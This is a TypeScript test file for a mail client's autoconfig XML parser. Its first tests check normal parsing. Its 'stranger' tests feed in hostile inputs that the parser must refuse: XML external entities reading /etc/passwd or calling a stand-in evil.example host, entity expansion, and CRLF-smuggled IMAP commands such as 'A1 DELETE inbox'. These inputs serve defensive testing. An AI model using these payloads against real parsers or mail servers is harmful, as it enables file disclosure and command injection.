/** Autoconfig files as domains write them, and as nobody should. */
import { describe, expect, it } from 'vitest'
import { mostBytes, readAutoconfig } from '../../../main/discovery/autoconfig.ts'
import { readAddress, type Address } from '../../../main/discovery/names.ts'

const ann = readAddress('Ann.B@Example.com') as Address

interface Part {
  readonly type?: string
  readonly host?: string
  readonly port?: string
  readonly security?: string
  readonly user?: string
}

const server = (element: string, { type = '', host = '', port = '', security = '', user = '' }: Part) =>
  `<${element} type="${type}"><hostname>${host}</hostname><port>${port}</port><socketType>${security}</socketType>
   <username>${user}</username><authentication>password-cleartext</authentication></${element}>`
const imap = (part: Part = {}) =>
  server('incomingServer', { type: 'imap', host: 'imap.example.com', port: '993', security: 'SSL', ...part })
const smtp = (part: Part = {}) =>
  server('outgoingServer', { type: 'smtp', host: 'smtp.example.com', port: '587', security: 'STARTTLS', ...part })
const file = (...servers: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?>
   <clientConfig version="1.1"><emailProvider id="example.com"><domain>example.com</domain>
   <displayName>Example Mail</displayName>${servers.join('')}</emailProvider></clientConfig>`

const user = 'Ann.B@example.com'

describe('an autoconfig file', () => {
  it('names both servers, and its provider', () => {
    expect(readAutoconfig(file(imap(), smtp()), ann)).toEqual({
      imap: { host: 'imap.example.com', port: 993, security: 'tls', user },
      smtp: { host: 'smtp.example.com', port: 587, security: 'starttls', user },
      name: 'Example Mail',
    })
  })

  it('has blanks that the address fills in', () => {
    const found = readAutoconfig(
      file(imap({ user: '%EMAILLOCALPART%', host: 'mail.%EMAILDOMAIN%' }), smtp({ user: 'x-%EMAILADDRESS%' })),
      ann,
    )
    expect(found?.imap).toMatchObject({ user: 'Ann.B', host: 'mail.example.com' })
    expect(found?.smtp.user).toBe(`x-${user}`)
  })

  it('is read for TLS first, whatever stands first in it', () => {
    const found = readAutoconfig(
      file(
        server('incomingServer', { type: 'pop3', host: 'pop.example.com', port: '995', security: 'SSL' }),
        imap({ host: 'a.example.com', port: '143', security: 'STARTTLS' }),
        imap({ host: 'b.example.com' }),
        smtp({ host: 'c.example.com' }),
        smtp({ host: 'd.example.com', port: '465', security: 'SSL' }),
      ),
      ann,
    )
    expect([found?.imap.host, found?.smtp.host]).toEqual(['b.example.com', 'd.example.com'])
  })

  it.each([
    [
      { port: '143', security: 'plain' },
      { port: 143, security: 'starttls' },
    ],
    [
      { port: '143', security: '' },
      { port: 143, security: 'starttls' },
    ],
    [
      { port: '993', security: 'plain' },
      { port: 993, security: 'tls' },
    ],
  ])('that says %o is taken at nothing less than %o', (said, taken) => {
    expect(readAutoconfig(file(imap(said), smtp()), ann)?.imap).toMatchObject(taken)
  })

  it.each([
    [
      { port: '25', security: 'plain' },
      { port: 587, security: 'starttls' },
    ],
    [
      { port: '465', security: 'plain' },
      { port: 465, security: 'tls' },
    ],
  ])('that sends by %o is taken as %o', (said, taken) => {
    expect(readAutoconfig(file(imap(), smtp(said)), ann)?.smtp).toMatchObject(taken)
  })
})

const nested = '<a>'.repeat(200) + '</a>'.repeat(200)
const entity = (body: string) => `<!DOCTYPE clientConfig [${body}]>${file(imap({ user: '&x;' }), smtp())}`

describe('a file of a stranger', () => {
  it.each<[string, string]>([
    ['nothing', ''],
    ['a captive portal', '<!doctype html><html><body>Please sign in</body></html>'],
    ['a captive portal as XML', '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'],
    ['an external entity', entity('<!ENTITY x SYSTEM "file:///etc/passwd">')],
    ['an external entity over http', entity('<!ENTITY x SYSTEM "http://evil.example/x">')],
    ['a parameter entity', entity('<!ENTITY % x SYSTEM "http://evil.example/x"> %x;')],
    ['entities that grow', entity('<!ENTITY a "aaaa"><!ENTITY x "&a;&a;&a;&a;">')],
    ['an external type', `<!DOCTYPE clientConfig SYSTEM "http://evil.example/x.dtd">${file(imap(), smtp())}`],
    ['an unknown entity', file(imap({ user: '&x;' }), smtp())],
    ['half of it', file(imap(), smtp()).slice(0, 300)],
    ['depth', file(nested, imap(), smtp())],
    ['length', file(imap(), smtp(), ' '.repeat(mostBytes))],
    ['a tag without an end', `<clientConfig ${'a'.repeat(70_000)}`],
    ['JSON', '{"imap":"imap.example.com"}'],
    ['bytes', '\u0000\u0001\u0002'],
    ['another root', file(imap(), smtp()).replaceAll('clientConfig', 'serverConfig')],
  ])('with %s is refused', (_what, text) => {
    expect(() => readAutoconfig(text, ann)).toThrow(expect.objectContaining({ kind: 'badAnswer' }))
  })

  it.each<[string, Part]>([
    ['no host', { host: '' }],
    ['a host with a blank', { host: 'imap.example.com evil.example' }],
    ['a host with a line break', { host: 'imap.example.com&#13;&#10;A1 LOGOUT' }],
    ['a host with a path', { host: 'imap.example.com/x' }],
    ['a host with a user', { host: 'ann@imap.example.com' }],
    ['a host with a port', { host: 'imap.example.com:25' }],
    ['an address as host', { host: '10.0.0.1' }],
    ['this machine as host', { host: 'localhost' }],
    ['a URL as host', { host: 'http://imap.example.com' }],
    ['a host of 300 signs', { host: `${'a'.repeat(290)}.example` }],
    ['a label of 70 signs', { host: `${'a'.repeat(70)}.example` }],
    ['a host that begins with a hyphen', { host: '-imap.example.com' }],
    ['a host with two dots', { host: 'imap..example.com' }],
    ['a host with a percent sign', { host: 'imap%2eexample.com' }],
    ['a blank of its own', { host: '%EMAILHOST%' }],
    ['no port', { port: '' }],
    ['port 0', { port: '0' }],
    ['port 99999', { port: '99999' }],
    ['port -1', { port: '-1' }],
    ['port 993.5', { port: '993.5' }],
    ['port 0x3e1', { port: '0x3e1' }],
    ['port 1e2', { port: '1e2' }],
    ['a protection nobody knows', { security: 'ROT13' }],
    ['another kind of server', { type: 'exchange' }],
  ])('whose server has %s is passed over', (_what, part) => {
    expect(readAutoconfig(file(imap(part), smtp()), ann)).toBeNull()
  })

  it('without servers, or with one of them alone, is passed over', () => {
    expect(readAutoconfig(file(), ann)).toBeNull()
    expect(readAutoconfig(file(imap()), ann)).toBeNull()
    expect(readAutoconfig('<clientConfig/>', ann)).toBeNull()
  })

  it('cannot put a line break into the name that signs in, or a blank into a blank', () => {
    const signs = { user: 'ann&#13;&#10;A1 DELETE inbox' }
    expect(readAutoconfig(file(imap(signs), smtp()), ann)?.imap.user).toBe('annA1 DELETE inbox')
    const odd = readAddress('%EMAILDOMAIN%@example.com') as Address
    expect(readAutoconfig(file(imap({ user: '%EMAILLOCALPART%' }), smtp()), odd)?.imap.user).toBe('%EMAILDOMAIN%')
  })

  it('has no more servers looked at than a person could choose from', () => {
    const many = Array.from({ length: 500 }, () => imap({ port: '0' }))
    expect(readAutoconfig(file(...many, imap(), smtp()), ann)).toBeNull()
  })
})
